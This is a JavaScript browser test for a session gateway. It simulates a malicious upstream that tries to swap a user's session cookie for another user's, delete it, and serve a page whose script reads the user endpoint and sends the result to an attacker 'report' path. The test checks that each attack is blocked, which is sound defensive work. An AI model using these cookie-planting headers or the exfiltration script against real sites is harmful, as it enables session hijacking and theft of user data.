// Real-browser test of what an upstream may say on the SPA's origin (issue #16, items 3 and 8):
// a malicious or compromised upstream answers alice's API call with a `Set-Cookie` carrying
// bob's real session id (a session swap), then with a deletion of the session cookie and
// `Clear-Site-Data: "cookies"`, then serves an HTML page whose script tries to read
// /bff/user with alice's session. In Chromium, alice's cookie must be unchanged, her session
// still hers, and the page's script must never run.
//
//   (cd tests/browser && npm ci) && cargo build
//   node --test tests/browser/upstream_cookies.test.mjs
//
// Env: PORTCULLIS_BIN (default target/debug/portcullis), HARNESS_VERBOSE=1 (stream child logs).
// Needs /usr/bin/chromium (`apt-get install -y chromium`); without it the test FAILS.

import assert from 'node:assert/strict';
import http from 'node:http';
import { after, test } from 'node:test';
import * as h from './harness.mjs';

const COOKIE = '__Host-portcullis';

after(async () => {
  await h.closeServers();
  await h.stopAll();
});

/**
 * The malicious upstream. `state.victimSwap` is the session id it plants; every request is
 * recorded (path only).
 */
async function startEvilUpstream(state) {
  const requests = [];
  const server = http.createServer((req, res) => {
    requests.push(req.url);
    const path = new URL(req.url, 'http://x').pathname;
    const json = { 'content-type': 'application/json' };
    if (path.endsWith('/swap')) {
      res.writeHead(200, {
        ...json,
        'set-cookie': [
          `${COOKIE}=${state.victimSwap}; Path=/; Secure; HttpOnly; SameSite=Strict`,
          `  ${COOKIE}=${state.victimSwap}; Path=/; Secure; HttpOnly`,
          `__host-portcullis=${state.victimSwap}; Path=/; Secure`,
          `${COOKIE}-login=attacker-binding; Path=/; Secure; HttpOnly; SameSite=Lax; Max-Age=600`,
          'theme=dark; Path=/',
        ],
      });
      res.end('{"ok":true}');
    } else if (path.endsWith('/delete')) {
      res.writeHead(200, {
        ...json,
        'set-cookie': [`${COOKIE}=; Path=/; Secure; HttpOnly; Max-Age=0`],
        'clear-site-data': '"cookies"',
      });
      res.end('{"ok":true}');
    } else if (path.endsWith('/page')) {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><title>sandboxed page</title>
<p id="p">upstream page</p>
<script>
  document.title = 'script ran';
  fetch('/bff/user', { headers: { 'X-CSRF': '1' } })
    .then((r) => r.text())
    .then((t) => fetch('/evil-anon/report?' + encodeURIComponent(t)));
</script>`);
    } else {
      res.writeHead(200, json);
      res.end('{}');
    }
  });
  const port = await h.listen(server);
  return { url: `http://127.0.0.1:${port}`, requests };
}

test('an upstream can neither swap nor delete the session cookie, nor run script on the origin', { timeout: 120_000 }, async () => {
  const chromium = await h.requireChromium();

  const contexts = [];
  try {
    const { gwPort, origin, provider } = await h.startSite();
    const state = { victimSwap: 'unset' };
    const evil = await startEvilUpstream(state);
    const config = h.portcullisConfig({
      port: gwPort,
      issuer: provider.issuer,
      overrides: {
        routes: [
          { prefix: '/evil', upstream: evil.url, token: 'user' },
          { prefix: '/evil-anon', upstream: evil.url, token: 'none' },
        ],
      },
    });
    await h.startPortcullis({ config });

    // bob's real session id: what the attacker plants in alice's browser.
    const bobContext = await h.launchChromium(chromium);
    contexts.push(bobContext);
    const bobPage = bobContext.pages()[0] ?? await bobContext.newPage();
    await h.loginThroughUi(bobPage, { origin, issuer: provider.issuer, username: 'bob' });
    const bobSession = (await bobContext.cookies(origin)).find((c) => c.name === COOKIE);
    assert.ok(bobSession, 'bob is logged in');
    state.victimSwap = bobSession.value;

    // alice logs in.
    const context = await h.launchChromium(chromium);
    contexts.push(context);
    const page = context.pages()[0] ?? await context.newPage();
    await h.loginThroughUi(page, { origin, issuer: provider.issuer, username: 'alice' });
    const cookieOf = async (name) => (await context.cookies(origin)).find((c) => c.name === name);
    const alice = await cookieOf(COOKIE);
    assert.ok(alice);
    assert.notEqual(alice.value, bobSession.value);
    const bindingBefore = (await cookieOf(`${COOKIE}-login`))?.value;
    const whoAmI = () => page.evaluate(async () => {
      const r = await fetch('/bff/user', { headers: { 'X-CSRF': '1' } });
      return { status: r.status, sub: r.ok ? (await r.json()).sub : null };
    });
    assert.deepEqual(await whoAmI(), { status: 200, sub: 'alice' });

    // 1. The swap: the upstream answers alice's API call with bob's session id.
    const swap = await page.evaluate(async () => (await fetch('/evil/swap', { headers: { 'X-CSRF': '1' } })).status);
    assert.equal(swap, 200);
    assert.equal((await cookieOf(COOKIE))?.value, alice.value, "alice's session cookie is unchanged");
    assert.equal((await cookieOf(`${COOKIE}-login`))?.value, bindingBefore, 'no planted login binding');
    assert.equal((await cookieOf('theme'))?.value, 'dark', "the upstream's own cookie is set");
    assert.deepEqual(await whoAmI(), { status: 200, sub: 'alice' }, 'still alice, not bob');

    // 2. The deletion, by Set-Cookie and by Clear-Site-Data.
    const del = await page.evaluate(async () => (await fetch('/evil/delete', { headers: { 'X-CSRF': '1' } })).status);
    assert.equal(del, 200);
    assert.equal((await cookieOf(COOKIE))?.value, alice.value, 'the session cookie survives');
    assert.deepEqual(await whoAmI(), { status: 200, sub: 'alice' });

    // 3. An upstream HTML page, opened top-level on the origin: sandboxed, its script never runs.
    const response = await page.goto(`${origin}/evil-anon/page`);
    assert.equal(response.status(), 200);
    assert.match(response.headers()['content-security-policy'] ?? '', /^sandbox;/);
    assert.equal(await page.textContent('#p'), 'upstream page', 'the page itself renders');
    await h.sleep(500); // give a script that did run time to report
    assert.equal(await page.title(), 'sandboxed page', 'no script ran');
    assert.ok(!evil.requests.some((u) => u.includes('/report')), `the script reported: ${evil.requests}`);

    // Back on the SPA: alice is still signed in.
    await page.goto(`${origin}/`);
    await page.waitForSelector('#status[data-state="logged-in"]');
  } catch (err) {
    h.dumpLogs();
    throw err;
  } finally {
    for (const c of contexts) await c.close().catch(() => {});
    await h.stopAll();
  }
});
